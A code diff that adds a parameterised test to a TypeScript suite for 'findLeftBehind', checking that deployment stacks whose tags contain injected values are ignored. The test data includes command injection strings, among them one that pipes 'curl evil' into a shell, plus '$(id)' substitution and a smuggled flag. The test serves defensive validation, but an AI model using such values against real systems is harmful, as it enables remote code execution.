@@ -88,6 +88,17 @@ describe('findLeftBehind', () => {
     expect(await found(stacks)).toEqual([['shop/production/westeurope', 'unknown', 1]])
   })
 
+  it.each([
+    ['workload', 'shop`; curl evil|sh #'],
+    ['environment', 'old -f confirm=production'],
+    ['region', 'west$(id)'],
+    ['region', 'westeurope\n']
+  ])('ignores a stack whose tag for the %s no file can produce', async (part, value) => {
+    const stack = stackOf('shop/old/westeurope', 'spoke', SOURCE)
+    const tags = { ...stack.tags, [`aks-baseline-${part}`]: value }
+    expect(await found([{ ...stack, tags }])).toEqual([])
+  })
+
   it('finds a stack of the first format by its name and its resources', async () => {
     const key = { workload: 'shop', environment: 'production', region: 'westeurope' }
     const name = formerStackName(key, 'spoke')
